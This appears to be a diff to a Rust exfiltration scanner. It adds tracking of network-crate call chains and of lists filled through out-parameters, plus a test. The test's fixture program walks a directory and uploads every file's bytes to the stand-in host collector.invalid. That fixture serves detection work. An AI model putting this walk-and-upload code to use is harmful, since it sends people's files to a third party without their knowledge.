@@ -50,10 +50,21 @@ pub struct CallSite {
     pub on_self: bool,
     /// The variable a method is called on (`stream` in `stream.write_all(…)`).
     pub receiver: Option<String>,
+    /// Where a chain of calls starts when it is not a variable: the variable it starts from
+    /// (`client` in `client.post(url).body(data)`), or, for a chain that starts with an HTTP or
+    /// socket crate's function (`reqwest::Client::new().post(url)…`), that it does.
+    pub chain: Option<ChainRoot>,
     pub args: Vec<Vec<String>>,
     /// The lines of each argument: a source written in an argument (`f(home_dir())`) is in it.
     pub arg_lines: Vec<(u32, u32)>,
     pub line: u32,
+}
+
+/// Where a chain of method calls starts.
+#[derive(Debug, Clone, PartialEq)]
+pub enum ChainRoot {
+    Variable(String),
+    NetworkCrate,
 }
 
 /// What the syntax front end records about one function.
@@ -290,6 +301,9 @@ struct Summary {
     /// Per parameter: the sources it meets in one statement (a connection handed in as a
     /// parameter meets the secret the function reads).
     param_meets: Vec<u64>,
+    /// Per parameter: the sources the function puts into it (`out.push(path)` into a `&mut
+    /// Vec` it is handed: a walk that collects what it finds into its caller's list).
+    param_fills: Vec<u64>,
 }
 
 /// Where one statement's own signals are.
@@ -663,6 +677,7 @@ fn analyse_function(
         returns: 0,
         param_sinks: vec![BTreeMap::new(); params],
         param_meets: vec![0; params],
+        param_fills: vec![0; params],
     };
     let mut locals: HashMap<&str, u64> = HashMap::new();
     for (index, names) in function.params.iter().take(MAX_PARAMS).enumerate() {
@@ -673,6 +688,34 @@ fn analyse_function(
     let taint_of = |locals: &HashMap<&str, u64>, name: &str| -> u64 {
         locals.get(name).copied().unwrap_or(0) | globals.get(name).copied().unwrap_or(0)
     };
+    let param_index = |name: &str| {
+        function
+            .params
+            .iter()
+            .take(params)
+            .position(|names| names.iter().any(|n| n == name))
+    };
+    // What the crate's functions called here put into the variables handed to them
+    // (`collect(&root, &mut files)`): those variables hold it from the start, as a loop's
+    // later statement does.
+    for (call_index, call) in function.calls.iter().enumerate() {
+        for (position, arg) in call.args.iter().enumerate() {
+            let fills = callees_of(call_index)
+                .iter()
+                .filter_map(|callee| summaries.get(callee))
+                .filter_map(|summary| summary.param_fills.get(position))
+                .fold(0, |all, bits| all | bits);
+            if fills == 0 {
+                continue;
+            }
+            for name in arg {
+                *locals.entry(name.as_str()).or_default() |= fills;
+                if let Some(param) = param_index(name) {
+                    summary.param_fills[param] |= fills;
+                }
+            }
+        }
+    }
     // What each statement gave each binding it defines: a written file's destination is judged
     // by what its path held before the write (`fs::write(&path, data)` makes `path` carry
     // `data` for what is done with it afterwards, not for where the data went).
@@ -681,15 +724,25 @@ fn analyse_function(
     // they are called on.
     let mut call_returns: HashMap<usize, u64> = HashMap::new();
     let mut sends_on: HashMap<usize, Vec<&str>> = HashMap::new();
+    let mut sends_fresh: std::collections::HashSet<usize> = std::collections::HashSet::new();
     for (call_index, call) in function.calls.iter().enumerate() {
         let returns = callees_of(call_index)
             .iter()
             .filter_map(|callee| summaries.get(callee))
             .fold(0, |all, summary| all | summary.returns);
+        let sending_method = SENDING_METHODS.contains(&call.callee.as_str());
         let sending = call
             .receiver
             .as_deref()
-            .filter(|_| SENDING_METHODS.contains(&call.callee.as_str()));
+            .or(match &call.chain {
+                Some(ChainRoot::Variable(root)) => Some(root.as_str()),
+                _ => None,
+            })
+            .filter(|_| sending_method);
+        // A request built and sent in one chain from a network crate's constructor
+        // (`reqwest::blocking::Client::new().post(URL).multipart(form).send()`): what goes
+        // into it is sent, whichever line of the function made a connection first.
+        let sends_new = sending_method && call.chain == Some(ChainRoot::NetworkCrate);
         let statements = call_statements.get(&(function.scope, call_index));
         for &statement in statements.into_iter().flatten() {
             if returns != 0 {
@@ -697,6 +750,9 @@ fn analyse_function(
             }
             if let Some(receiver) = sending {
                 sends_on.entry(statement).or_default().push(receiver);
+            }
+            if sends_new {
+                sends_fresh.insert(statement);
             }
         }
     }
@@ -737,6 +793,9 @@ fn analyse_function(
             }
             bits |= used;
             for def in &statement.defs {
+                if let Some(param) = param_index(def) {
+                    summary.param_fills[param] |= bits & SOURCE_MASK;
+                }
                 let entry = locals.entry(def.as_str()).or_default();
                 changed |= *entry | bits != *entry;
                 *entry |= bits;
@@ -752,7 +811,7 @@ fn analyse_function(
             let mut sinks: Vec<(Sink, usize)> = mine.map(|o| o.sinks.clone()).unwrap_or_default();
             let own_network = sinks.iter().any(|(s, _)| *s == Sink::Network);
             // A send: a call that sends through a connection (or a program that sends).
-            let mut sends = false;
+            let mut sends = sends_fresh.contains(&index);
             // Written to a started shell's or interpreter's input (`python3 -`, `sh -s`): its
             // program, as surely as one on its command line.
             let mut feeds_shell = false;
@@ -975,6 +1034,59 @@ mod tests {
             .map(|s| s.line)
             .collect();
         assert_eq!(spawns, vec![8], "{signals:#?}");
+    }
+
+    /// A walk that puts what it finds into a list its caller hands it, and a request built and
+    /// sent in one chain: the walked files reach the network.
+    #[test]
+    fn files_collected_through_an_out_parameter_reach_a_chained_send() {
+        let source = |url: &str| {
+            format!(
+                r#"
+            fn collect(dir: &std::path::Path, out: &mut Vec<std::path::PathBuf>) {{
+                for entry in std::fs::read_dir(dir).unwrap().flatten() {{
+                    out.push(entry.path());
+                }}
+            }}
+            pub fn upload(root: &std::path::Path, url: &str) {{
+                let mut files = Vec::new();
+                collect(root, &mut files);
+                for file in &files {{
+                    let data = std::fs::read(file).unwrap();
+                    let _ = ureq::AgentBuilder::new().build().post({url}).send_bytes(&data);
+                }}
+            }}"#
+            )
+        };
+        let walked_sent = |report: &crate::scan::Report| {
+            report.signals.iter().any(|s| {
+                matches!(
+                    s.kind,
+                    SignalKind::Flow {
+                        source: super::Source::WalkedFiles,
+                        sink: super::Sink::Network,
+                        ..
+                    }
+                )
+            })
+        };
+        let fixed = report(&source("\"https://collector.invalid/in\""));
+        assert!(walked_sent(&fixed), "{:#?}", fixed.signals);
+        let found: Vec<(String, Verdict)> = fixed
+            .findings
+            .iter()
+            .map(|f| (f.rule.clone(), f.severity))
+            .collect();
+        expect(&found, "scan.exfiltration", Some(Verdict::Hold));
+        // Sent where the caller says: an uploader.
+        let given = report(&source("url"));
+        assert!(walked_sent(&given));
+        let found: Vec<(String, Verdict)> = given
+            .findings
+            .iter()
+            .map(|f| (f.rule.clone(), f.severity))
+            .collect();
+        expect(&found, "scan.exfiltration", None);
     }
 
     #[test]
